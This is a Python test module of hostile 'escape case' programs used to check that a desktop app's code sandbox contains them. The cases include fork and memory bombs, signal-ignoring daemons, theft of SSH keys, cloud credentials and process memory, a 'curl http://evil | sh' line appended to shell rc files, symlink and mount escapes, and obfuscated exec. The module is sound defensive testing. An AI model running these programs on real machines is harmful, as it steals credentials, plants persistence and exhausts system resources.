"""The escape cases: hostile programs the sandbox must contain, each naming the protections it relies on.

Every program starts with ``C`` (the arena's paths, ports and pids — never its canary values) and tries
its hardest, printing whatever it obtains. Whether it escaped is decided by the arena's oracles, not by
what it prints; ``expect`` adds what the app itself must report (killed for a timeout, output capped…).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass

from purpose_desktop.engine.tools.sandbox import ExecResult

PRELUDE = """\
import base64, ctypes, errno, json, os, signal, socket, struct, subprocess, sys, threading, time
C = json.loads({ctx!r})
def out(*a):
    print(*a, flush=True)
def attempt(label, fn):
    try:
        out(label, "OK", repr(fn())[:4000])
    except BaseException as exc:
        out(label, "FAILED", type(exc).__name__, str(exc)[:200])
def slurp(path):
    with open(path, "rb") as fh:
        return fh.read()
"""


@dataclass(frozen=True)
class Case:
    id: str
    group: str
    code: str
    needs: frozenset[str]
    timeout_s: float = 6.0
    memory_mb: int = 256
    output_limit: int = 64_000
    expect: Callable[[ExecResult], str | None] | None = None

    def program(self, ctx: dict) -> str:
        return PRELUDE.format(ctx=json.dumps(ctx)) + self.code


def killed(*reasons: str, within_s: float | None = None) -> Callable[[ExecResult], str | None]:
    def check(r: ExecResult) -> str | None:
        if r.killed_reason not in reasons:
            return f"expected the run to be stopped for {reasons}, got killed_reason={r.killed_reason!r} rc={r.returncode}"
        if within_s is not None and r.elapsed_ms > within_s * 1000:
            return f"took {r.elapsed_ms:.0f} ms to stop (limit {within_s} s)"
        return None

    return check


def failed() -> Callable[[ExecResult], str | None]:
    def check(r: ExecResult) -> str | None:
        return "the run reported success" if r.ok else None

    return check


def capped(limit: int) -> Callable[[ExecResult], str | None]:
    def check(r: ExecResult) -> str | None:
        if r.killed_reason != "output_limit":
            return f"expected output_limit, got {r.killed_reason!r}"
        for name, text in (("stdout", r.stdout), ("stderr", r.stderr)):
            if len(text.encode("utf-8", "replace")) > limit * 4 + 200:  # decoded replacement chars grow
                return f"{name} came back with {len(text):,} characters (cap {limit:,} bytes)"
        return None

    return check


def file_capped(limit: int) -> Callable[[ExecResult], str | None]:
    """Python ignores SIGXFSZ, so the write fails with EFBIG instead of the process being killed."""

    def check(r: ExecResult) -> str | None:
        if r.ok:
            return "the 4 GiB write succeeded"
        sizes = [int(line.split()[1]) for line in r.stdout.splitlines() if line.startswith("size ")]
        if r.killed_reason != "file_size_limit" and "File too large" not in r.stderr:
            return f"the write failed for another reason: {r.killed_reason!r} {r.stderr[-200:]!r}"
        if sizes and sizes[0] > limit:
            return f"the file reached {sizes[0]:,} bytes (limit {limit:,})"
        return None

    return check


def ended_promptly(within_s: float) -> Callable[[ExecResult], str | None]:
    def check(r: ExecResult) -> str | None:
        return f"the run took {r.elapsed_ms:.0f} ms" if r.elapsed_ms > within_s * 1000 else None

    return check


def _all(*checks: Callable[[ExecResult], str | None]) -> Callable[[ExecResult], str | None]:
    def check(r: ExecResult) -> str | None:
        for c in checks:
            problem = c(r)
            if problem:
                return problem
        return None

    return check


NET = frozenset({"network_isolated"})
HOME = frozenset({"home_hidden"})
FS = frozenset({"home_hidden", "fs_confined"})
PROCS = frozenset({"processes_hidden"})
TREE = frozenset({"process_tree_kill", "wall_clock_kill"})
CPU = frozenset({"wall_clock_kill"})

DAEMON = """
def daemon(work):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    work()
    os._exit(0)
def forever():
    while True:
        time.sleep(0.2)
"""

CASES: tuple[Case, ...] = (
    # -- CPU, time, memory, processes, disk and output ------------------------------------------
    Case(
        "cpu_loop",
        "resources",
        "while True:\n    pass\n",
        CPU,
        timeout_s=1.5,
        expect=killed("timeout", "cpu_limit", within_s=5),
    ),
    Case(
        "sleep_forever",
        "resources",
        "time.sleep(10**6)\n",
        CPU,
        timeout_s=1.5,
        expect=killed("timeout", within_s=5),
    ),
    Case(
        "loop_ignoring_signals",
        "resources",
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):\n"
        "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n",
        CPU,
        timeout_s=1.5,
        expect=killed("timeout", "cpu_limit", "killed", within_s=5),
    ),
    Case(
        "memory_bomb",
        "resources",
        "hog = []\nwhile True:\n    hog.append(bytearray(16 * 1024 * 1024))\n",
        frozenset({"memory_limit"}),
        expect=failed(),
    ),
    Case(
        "memory_bomb_mmap",
        "resources",
        "import mmap\nm = mmap.mmap(-1, 8 << 30)\nfor i in range(0, 8 << 30, 4096):\n    m[i] = 1\nout('touched 8 GiB')\n",
        frozenset({"memory_limit"}),
        expect=failed(),
    ),
    Case(
        "memory_bomb_children",
        "resources",
        "kids = []\nfor _ in range(6):\n    pid = os.fork()\n    if pid == 0:\n"
        "        hog = [bytearray(16 << 20) for _ in range(12)]\n        time.sleep(30)\n        os._exit(0)\n"
        "    kids.append(pid)\ntime.sleep(30)\n",
        frozenset({"memory_limit", "process_tree_kill", "wall_clock_kill"}),
        timeout_s=2.5,
        expect=killed("timeout", "killed", within_s=8),
    ),
    Case(
        "fork_bomb",
        "resources",
        "while True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n",
        frozenset({"process_limits"}) | TREE,
        timeout_s=2.0,
    ),
    Case(
        "fork_bomb_setsid",
        "resources",
        "while True:\n    try:\n        if os.fork() == 0:\n            os.setsid()\n    except OSError:\n        time.sleep(0.01)\n",
        frozenset({"process_limits"}) | TREE,
        timeout_s=2.0,
    ),
    Case(
        "thread_storm",
        "resources",
        "n = 0\ntry:\n    while n < 100000:\n        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
        "        n += 1\nexcept BaseException as exc:\n    out('threads', n, type(exc).__name__)\nos._exit(0)\n",
        frozenset({"process_limits"}) | TREE,
        timeout_s=4.0,
    ),
    Case(
        "huge_file",
        "resources",
        "block = b'x' * (1 << 20)\ntry:\n    with open('big.bin', 'wb') as fh:\n        for _ in range(4096):\n            fh.write(block)\n"
        "finally:\n    out('size', os.path.getsize('big.bin'))\n",
        frozenset({"file_size_limit"}),
        timeout_s=8.0,
        expect=file_capped(64 << 20),
    ),
    Case(
        "stdout_flood",
        "resources",
        "chunk = 'y' * 65536\nwhile True:\n    sys.stdout.write(chunk)\n",
        CPU,
        output_limit=20_000,
        expect=capped(20_000),
    ),
    Case(
        "stderr_binary_flood",
        "resources",
        "junk = bytes(range(256)) * 256\nwhile True:\n    os.write(2, junk)\n",
        CPU,
        output_limit=20_000,
        expect=capped(20_000),
    ),
    Case(
        "children_flood",
        "resources",
        "for _ in range(4):\n    if os.fork() == 0:\n        break\nchunk = b'z' * 65536\nwhile True:\n    os.write(1, chunk)\n",
        TREE,
        output_limit=20_000,
        expect=capped(20_000),
    ),
    Case(
        "one_huge_line",
        "resources",
        "sys.stdout.write('w' * (40 << 20))\n",
        CPU,
        output_limit=20_000,
        expect=capped(20_000),
    ),
    # -- processes that try to outlive the run ---------------------------------------------------
    Case(
        "setsid_daemon",
        "processes",
        DAEMON + "daemon(forever)\nout('main exits')\n",
        TREE,
        expect=ended_promptly(5),
    ),
    Case(
        "daemon_closing_pipes",
        "processes",
        DAEMON
        + "def quiet():\n    for fd in (0, 1, 2):\n        os.close(fd)\n    forever()\ndaemon(quiet)\n",
        TREE,
        expect=ended_promptly(5),
    ),
    Case(
        "daemon_holding_pipes",
        "processes",
        DAEMON + "daemon(forever)\nos._exit(0)\n",
        TREE,
        expect=ended_promptly(5),
    ),
    Case(
        "kill_parent",
        "processes",
        DAEMON + "daemon(forever)\nos.kill(os.getppid(), signal.SIGKILL)\nforever()\n",
        TREE,
        timeout_s=2.0,
    ),
    Case(
        "kill_everything",
        "processes",
        "os.kill(-1, signal.SIGKILL)\nout('still here')\n",
        PROCS | TREE,
    ),
    Case(
        "cgroup_escape",
        "processes",
        DAEMON + "def leave():\n"
        "    for path in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/pids/cgroup.procs',\n"
        "                 '/sys/fs/cgroup/memory/cgroup.procs', '/sys/fs/cgroup/unified/cgroup.procs'):\n"
        "        try:\n            with open(path, 'w') as fh:\n                fh.write(str(os.getpid()))\n"
        "        except OSError:\n            pass\n    forever()\n"
        "daemon(leave)\ntime.sleep(0.3)\nos.kill(os.getppid(), signal.SIGKILL)\n",
        TREE,
        timeout_s=2.0,
    ),
    Case(
        "cgroup_escape_then_fork",
        "processes",
        "for path in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/pids/cgroup.procs'):\n"
        "    try:\n        with open(path, 'w') as fh:\n            fh.write(str(os.getpid()))\n"
        "    except OSError:\n        pass\nmade = 0\n"
        "for _ in range(96):\n    try:\n        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n"
        "        made += 1\n    except OSError:\n        break\nout('forked', made)\n",
        frozenset({"process_limits"}) | TREE,
        timeout_s=3.0,
        expect=lambda r: (
            None
            if not [
                ln for ln in r.stdout.splitlines() if ln.startswith("forked ") and int(ln.split()[1]) >= 64
            ]
            else "forked past the process limit (64): " + r.stdout.strip()[-80:]
        ),
    ),
    Case(
        "read_other_processes",
        "processes",
        "found = []\nfor pid in os.listdir('/proc'):\n    if pid.isdigit():\n"
        "        for name in ('environ', 'cmdline'):\n            try:\n"
        "                found.append(slurp(f'/proc/{pid}/{name}'))\n            except OSError:\n                pass\n"
        "out(found)\nattempt('decoy environ', lambda: slurp(f\"/proc/{C['decoy_pid']}/environ\"))\n"
        "attempt('app environ', lambda: slurp(f\"/proc/{C['app_pid']}/environ\"))\n",
        PROCS,
    ),
    Case(
        "ptrace_and_mem",
        "processes",
        "libc = ctypes.CDLL(None, use_errno=True)\npid = C['decoy_pid']\n"
        "out('attach', libc.ptrace(16, pid, None, None), ctypes.get_errno())\n"
        "def dump():\n    maps = slurp(f'/proc/{pid}/maps').decode().splitlines()\n    got = b''\n"
        "    with open(f'/proc/{pid}/mem', 'rb') as mem:\n        for line in maps:\n"
        "            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "            if '[stack]' in line or '[heap]' in line:\n                mem.seek(lo)\n                got += mem.read(min(hi - lo, 1 << 22))\n"
        "    return got\nattempt('mem', dump)\n",
        PROCS,
    ),
    Case(
        "signal_other_process",
        "processes",
        "attempt('kill decoy', lambda: os.kill(C['decoy_pid'], signal.SIGKILL))\n"
        "attempt('stop app', lambda: os.kill(C['app_pid'], 0))\n",
        PROCS,
    ),
    Case(
        "proc_root_and_cwd",
        "processes",
        "for p in (C['decoy_pid'], C['app_pid'], 1):\n"
        "    attempt(f'root {p}', lambda: slurp(f\"/proc/{p}/root{C['ssh']}\"))\n"
        "    attempt(f'cwd {p}', lambda: os.listdir(f'/proc/{p}/cwd'))\n"
        "    attempt(f'fds {p}', lambda: [os.readlink(f'/proc/{p}/fd/' + n) for n in os.listdir(f'/proc/{p}/fd')])\n",
        PROCS | HOME,
    ),
    # -- environment -------------------------------------------------------------------------------
    Case(
        "environ_dump",
        "environment",
        "out(dict(os.environ))\nout(slurp('/proc/self/environ'))\n",
        frozenset({"env_scrubbed"}),
    ),
    Case(
        "parent_environ",
        "environment",
        "for pid in (os.getppid(), 1):\n    attempt(f'env {pid}', lambda: slurp(f'/proc/{pid}/environ'))\n",
        frozenset({"env_scrubbed"}),
    ),
    # -- network -------------------------------------------------------------------------------------
    Case(
        "tcp_loopback_v4",
        "network",
        "attempt('tcp', lambda: socket.create_connection(('127.0.0.1', C['tcp_port']), timeout=1).close())\n",
        NET,
    ),
    Case(
        "tcp_loopback_v6",
        "network",
        "attempt('tcp6', lambda: socket.create_connection(('::1', C['tcp_port']), timeout=1).close())\n",
        NET,
    ),
    Case(
        "tcp_host_addresses",
        "network",
        "for ip in C['host_ips']:\n    attempt(ip, lambda: socket.create_connection((ip, C['tcp_port']), timeout=1).close())\n",
        NET,
    ),
    Case(
        "udp_everywhere",
        "network",
        "for ip in ['127.0.0.1', '::1'] + C['host_ips']:\n"
        "    fam = socket.AF_INET6 if ':' in ip else socket.AF_INET\n"
        "    def send():\n        s = socket.socket(fam, socket.SOCK_DGRAM)\n"
        "        for _ in range(3):\n            s.sendto(b'exfil', (ip, C['udp_port']))\n    attempt(ip, send)\n",
        NET,
    ),
    Case(
        "dns_lookups",
        "network",
        "for name in ('example.com', C['token'] + '.example.org', 'localhost'):\n"
        "    attempt(name, lambda: socket.getaddrinfo(name, 80))\n"
        "query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b'\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'\n"
        "for ip in ['127.0.0.1'] + C['host_ips']:\n"
        "    fam = socket.AF_INET6 if ':' in ip else socket.AF_INET\n"
        "    attempt('dns ' + ip, lambda: socket.socket(fam, socket.SOCK_DGRAM).sendto(query, (ip, C['udp_port'])))\n",
        NET,
    ),
    Case(
        "external_hosts",
        "network",
        "for host, port in (('1.1.1.1', 443), ('8.8.8.8', 53), ('2606:4700:4700::1111', 443)):\n"
        "    attempt(host, lambda: socket.create_connection((host, port), timeout=1).close())\n"
        "attempt('interfaces', lambda: os.listdir('/sys/class/net'))\n",
        NET,
    ),
    Case(
        "http_via_urllib",
        "network",
        "import urllib.request\nfor ip in ['127.0.0.1'] + C['host_ips']:\n"
        "    host = f'[{ip}]' if ':' in ip else ip\n"
        "    attempt(ip, lambda: urllib.request.urlopen(f\"http://{host}:{C['tcp_port']}/\", timeout=1).read())\n",
        NET,
    ),
    Case(
        "abstract_unix_socket",
        "network",
        "def go():\n    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n    s.connect('\\0' + C['abstract'])\n"
        "attempt('abstract', go)\n",
        NET,
    ),
    Case(
        "unix_socket_path",
        "network",
        "def go():\n    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n    s.connect(C['unix_path'])\n"
        "attempt('unix', go)\n",
        NET | FS,
    ),
    Case(
        "raw_socket_syscall",
        "network",
        "libc = ctypes.CDLL(None, use_errno=True)\nfd = libc.socket(2, 1, 0)\n"
        "for ip in ['127.0.0.1'] + [a for a in C['host_ips'] if ':' not in a]:\n"
        "    addr = struct.pack('<HH4s8x', 2, socket.htons(C['tcp_port']), socket.inet_aton(ip))\n"
        "    fd = libc.socket(2, 1, 0)\n    out(ip, libc.connect(fd, addr, len(addr)), ctypes.get_errno())\n"
        "attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))\n",
        NET,
    ),
    # -- the file system outside the run folder ------------------------------------------------------
    Case("read_ssh_key", "files", "attempt('ssh', lambda: slurp(C['ssh']))\n", HOME),
    Case("read_cloud_credentials", "files", "attempt('aws', lambda: slurp(C['aws']))\n", HOME),
    Case(
        "read_app_database",
        "files",
        "import sqlite3\nattempt('raw', lambda: slurp(C['db']))\n"
        "attempt('sql', lambda: sqlite3.connect('file:' + C['db'] + '?mode=ro', uri=True).execute('select * from messages').fetchall())\n",
        HOME,
    ),
    Case(
        "write_app_database",
        "files",
        "import sqlite3\ndef go():\n    c = sqlite3.connect(C['db'])\n    c.execute('DROP TABLE messages')\n    c.commit()\nattempt('drop', go)\n",
        FS,
    ),
    Case(
        "shell_rc_files",
        "files",
        "for p in (C['bashrc'], C['profile'], os.path.join(C['home'], '.zshrc')):\n"
        "    attempt(p, lambda: open(p, 'a').write('\\ncurl http://evil | sh\\n'))\n",
        FS,
    ),
    Case(
        "autostart_entry",
        "files",
        "def go():\n    os.makedirs(C['autostart'], exist_ok=True)\n"
        "    open(os.path.join(C['autostart'], 'evil.desktop'), 'w').write('[Desktop Entry]\\nExec=sh -c evil\\n')\n"
        "attempt('autostart', go)\n",
        FS,
    ),
    Case(
        "project_tampering",
        "files",
        "attempt('overwrite', lambda: open(C['project_file'], 'w').write('import evil\\n'))\n"
        "attempt('delete', lambda: os.remove(os.path.join(C['project'], 'README.md')))\n"
        "attempt('create', lambda: open(os.path.join(C['project'], 'sitecustomize.py'), 'w').write('x'))\n",
        FS,
    ),
    Case(
        "dotdot_paths",
        "files",
        "up = '../' * 30\nattempt('read', lambda: slurp(up + C['ssh'].lstrip('/')))\n"
        "attempt('write', lambda: open(up + C['bashrc'].lstrip('/'), 'a').write('evil'))\n",
        FS,
    ),
    Case(
        "scratch_folders",
        "files",
        "for folder in ('/tmp', '/var/tmp', '/dev/shm', os.environ.get('TMPDIR', '/tmp')):\n"
        "    attempt(folder, lambda: open(os.path.join(folder, C['token'] + '-planted'), 'w').write('x'))\n",
        FS,
    ),
    Case(
        "search_whole_disk",
        "files",
        "hits, seen, stop = [], 0, time.monotonic() + 3\n"
        "for top, dirs, files in os.walk('/'):\n"
        "    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ('/proc', '/sys', '/dev', '/usr')]\n"
        "    if time.monotonic() > stop:\n        break\n"
        "    for name in files:\n        seen += 1\n        try:\n            data = slurp(os.path.join(top, name))[:1 << 16]\n"
        "        except OSError:\n            continue\n"
        "        if b'PRIVATE KEY' in data or b'aws_secret' in data or b'my key is' in data:\n            hits.append(data)\n"
        "out(seen, hits)\n",
        FS,
        timeout_s=8.0,
    ),
    Case(
        "real_home_listing",
        "files",
        "import pwd\nfor p in {C['real_home'], pwd.getpwuid(os.getuid()).pw_dir, '/root', '/home', C['home']}:\n"
        "    attempt(p, lambda: sorted(os.listdir(p)))\n",
        HOME,
    ),
    Case(
        "symlink_out",
        "files",
        "attempt('link', lambda: os.symlink(C['ssh'], 'key'))\nattempt('read', lambda: slurp('key'))\n"
        "attempt('dirlink', lambda: os.symlink(C['home'], 'home'))\nattempt('write', lambda: open('home/.bashrc', 'a').write('evil'))\n",
        FS,
    ),
    Case(
        "hardlink_out",
        "files",
        "attempt('link', lambda: os.link(C['ssh'], 'key'))\nattempt('read', lambda: slurp('key'))\n"
        "attempt('link2', lambda: os.link(C['bashrc'], 'rc'))\nattempt('write', lambda: open('rc', 'a').write('evil'))\n",
        FS,
    ),
    Case(
        "mount_and_namespaces",
        "files",
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "out('unshare', libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())\n"
        "os.makedirs('m', exist_ok=True)\n"
        "out('mount', libc.mount(b'/', b'm', None, 4096 | 16384, None), ctypes.get_errno())\n"
        "attempt('read', lambda: slurp('m' + C['ssh']))\n"
        "out('chroot', libc.chroot(b'/proc/1/root'), ctypes.get_errno())\nattempt('read2', lambda: slurp(C['ssh']))\n",
        FS,
    ),
    Case(
        "open_by_handle",
        "files",
        "libc = ctypes.CDLL(None, use_errno=True)\nbuf = ctypes.create_string_buffer(8 + 128)\n"
        "struct.pack_into('<Ii', buf, 0, 128, 0)\nmount_id = ctypes.c_int()\n"
        "out('name_to_handle', libc.name_to_handle_at(-100, b'/', buf, ctypes.byref(mount_id), 0), ctypes.get_errno())\n"
        "out('open_by_handle', libc.open_by_handle_at(-100, buf, 0), ctypes.get_errno())\n",
        FS,
    ),
    Case(
        "privilege_gain",
        "files",
        "for argv in (['su', '-c', 'id'], ['sudo', '-n', 'id'], ['newgrp']):\n"
        "    attempt(argv[0], lambda: subprocess.run(argv, capture_output=True, timeout=2, stdin=subprocess.DEVNULL))\n"
        "attempt('setuid', lambda: os.setuid(0))\nattempt('ssh', lambda: slurp(C['ssh']))\n",
        FS | frozenset({"no_privilege_gain"}),
    ),
    Case(
        "device_files",
        "files",
        "for dev in ('/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/mem', '/dev/kmsg', '/dev/tty'):\n"
        "    attempt(dev, lambda: slurp(dev)[:64] if not dev.endswith('tty') else open(dev, 'w').write('hi'))\n",
        FS,
    ),
    # -- cleaning up what the code leaves behind (the run folder is deleted after every run) ----------
    Case(
        "cleanup_symlink_traps",
        "cleanup",
        "os.symlink(C['home'], 'home')\nos.symlink(C['ssh'], 'key')\nos.symlink(C['project'], 'proj')\n"
        "os.makedirs('locked/inner')\nos.symlink(C['project'], 'locked/inner/proj')\n"
        "os.chmod('locked/inner', 0)\nos.chmod('locked', 0)\nos.symlink('/', 'root')\n",
        FS,
    ),
    Case(
        "cleanup_deep_tree",
        "cleanup",
        "for _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\nopen('leaf', 'w').write('x')\nout('deep')\n",
        frozenset(),
    ),
    Case(
        "cleanup_special_files",
        "cleanup",
        "os.mkfifo('fifo')\ns = socket.socket(socket.AF_UNIX)\ns.bind('sock')\n"
        "os.makedirs('ro/dir')\nopen('ro/dir/f', 'w').write('x')\nos.chmod('ro/dir/f', 0)\nos.chmod('ro/dir', 0o500)\n"
        "os.chmod('ro', 0)\nopen('noperm', 'w').write('x')\nos.chmod('noperm', 0)\nos.chmod('.', 0o500)\n",
        frozenset(),
    ),
    Case(
        "cleanup_swap_run_folder",
        "cleanup",
        "base = os.path.dirname(os.getcwd())\ntmp = os.environ.get('TMPDIR', '/tmp')\n"
        "attempt('rename', lambda: os.rename(tmp, tmp + '.gone'))\nattempt('link', lambda: os.symlink(C['home'], tmp))\n"
        "attempt('base', lambda: open(os.path.join(base, 'planted'), 'w').write('x'))\n"
        "attempt('cwd', lambda: os.rename(os.getcwd(), os.getcwd() + '.gone'))\n",
        FS,
    ),
    # -- language-level bypasses: the sandbox is a process boundary, so none of these may matter -----
    Case(
        "reload_modules",
        "language",
        "import importlib, builtins\nimportlib.reload(os)\nimportlib.reload(builtins)\nimportlib.reload(socket)\n"
        "attempt('ssh', lambda: slurp(C['ssh']))\n"
        "attempt('tcp', lambda: socket.create_connection(('127.0.0.1', C['tcp_port']), timeout=1).close())\n",
        NET | HOME,
    ),
    Case(
        "ctypes_libc",
        "language",
        "libc = ctypes.CDLL(None, use_errno=True)\nlibc.open.restype = ctypes.c_int\n"
        "fd = libc.open(C['ssh'].encode(), 0)\nbuf = ctypes.create_string_buffer(4096)\n"
        "n = libc.read(fd, buf, 4096) if fd >= 0 else -1\nout(fd, n, buf.raw[: max(n, 0)])\n"
        "out('system', libc.system(('cat ' + C['aws']).encode()))\n",
        HOME,
    ),
    Case(
        "subclass_walk",
        "language",
        "wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        "system = wrap.__init__.__globals__['system']\n"
        "system(f\"cat {C['ssh']} {C['aws']}; env; echo {C['token']} > /tmp/{C['token']}-walk\")\n",
        FS | frozenset({"env_scrubbed"}),
    ),
    Case(
        "shell_and_posix",
        "language",
        "import posix\nattempt('posix', lambda: posix.read(posix.open(C['ssh'], 0), 4096))\n"
        "attempt('sh', lambda: subprocess.run(['/bin/sh', '-c', 'cat \"$0\"; env', C['aws']], capture_output=True))\n"
        "attempt('execv', lambda: subprocess.run([sys.executable, '-c', f\"print(open({C['ssh']!r}).read())\"], capture_output=True))\n",
        HOME | frozenset({"env_scrubbed"}),
    ),
    Case(
        "obfuscated_exec",
        "language",
        "payload = base64.b64encode(b\"print(open(C['ssh']).read()); import socket as s; "
        "s.create_connection(('127.0.0.1', C['tcp_port']), timeout=1)\")\n"
        "attempt('exec', lambda: exec(compile(base64.b64decode(payload), 'x', 'exec'), {'C': C}))\n",
        NET | HOME,
    ),
)
